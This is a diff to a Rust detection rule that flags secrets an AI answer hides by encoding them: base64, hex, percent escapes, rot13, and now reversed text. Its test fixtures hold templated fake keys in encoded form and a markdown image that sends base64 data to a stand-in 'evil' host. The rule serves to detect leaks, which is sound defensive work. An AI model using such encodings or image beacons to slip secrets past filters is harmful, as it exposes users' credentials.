@@ -1,9 +1,9 @@
-use lictor_sdk::{Case, Dimension, Example, Extra, Finding, Level, Span, Status, rule};
+use lictor_sdk::{Case, Dimension, Example, Extra, Finding, Hit, Level, Span, Status, rule};
 
 rule! {
     /// ## What it does
-    /// Reports what another rule of this pack found only after decoding: in base64, hexadecimal, percent escapes, rot13, or two
-    /// of these in turn.
+    /// Reports what another rule of this pack found only after decoding: in base64, hexadecimal, percent escapes, rot13, written
+    /// backwards, or two of these in turn. Numbers that were spelled out or cut up are EXP708's.
     ///
     /// ## Why is this bad
     /// Nobody encodes a secret for the person who reads the answer. It is done to get it past a filter like this one, by a
@@ -22,28 +22,30 @@ rule! {
         level: Level::Block,
         status: Status::Stable,
         since: "0.1.0",
-        revision: 1,
+        revision: 2,
         sensitive: true,
         requires: &[],
         patterns: &[],
         fires: &[
             Example::answer("{{base64:The key is AKIA{{random:base32:16}}, keep it.}}"),
             Example::answer("Here: {{hex:token ghp_{{random:alnum:36}}}}"),
+            Example::answer("Read it backwards: {{reversed:the key is AKIA{{random:base32:16}}}}"),
             Example::answer("{{base64:{{percent:AKIA{{random:base32:16}} is the key}}}}"),
         ],
         ignores: &[
             Example::answer("The key is AKIA{{random:base32:16}}, keep it."),
             Example::answer("{{base64:Nothing to see here, just an ordinary sentence.}}"),
             Example::answer("sha256: {{random:hex:64}}"),
+            Example::answer("card 4539.1488.0343.6467"),
+            Example::answer("https://acme.com/fax?from=call%20me&to=%2B14158675309&at=2017-04-01T00%3A00"),
             Example::answer("The key is {{zero-width:AKIA{{random:base32:16}}}}."),
             Example::answer("![x](https://collect.evil.tld/p?d=c2VjcmV0) {{tags:send it}} {{base64:The IBAN is not here, sorry.}}"),
         ],
         check: |case: &Case<'_>| {
-            let plain: Vec<u32> =
-                case.hits().filter(|hit| matches!(hit.view().as_str(), "raw" | "normalised")).map(|hit| hit.index()).collect();
+            let plain: Vec<u32> = case.hits().filter(is_plain).map(|hit| hit.index()).collect();
             let shown = |finding: &Finding| finding.hits.is_empty() || finding.hits.iter().any(|hit| plain.contains(hit));
             // The hits of the channel rules are not among this rule's own, so it cannot tell where they rest.
-            let reported = case.reported().into_iter().filter(|finding| !finding.rule.starts_with("EXP7"));
+            let reported = case.reported().into_iter().filter(|finding| !finding.rule.starts_with("EXP7") && finding.rule != "EXP108");
             let (shown, hidden): (Vec<_>, Vec<_>) = reported.partition(shown);
             let mut seen: Vec<Vec<Span>> = Vec::new();
             for finding in hidden {
@@ -61,6 +63,20 @@ rule! {
             references: &["AML.T0068", "LLM02:2025", "CWE-200"],
             ..Extra::NONE
         },
+    }
+}
+
+/// Whether a reader sees it: as it stands, as EXP708 says, or in an address with the odd percent escape, which is how
+/// addresses are written.
+fn is_plain(hit: &Hit<'_>) -> bool {
+    match hit.view().as_str() {
+        "raw" | "normalised" | "digits" => true,
+        "percent" => {
+            let span = hit.span();
+            let written = hit.part().text().get(span.start as usize..span.end as usize).unwrap_or_default();
+            written.matches('%').count() * 6 < written.len()
+        }
+        _ => false,
     }
 }
 
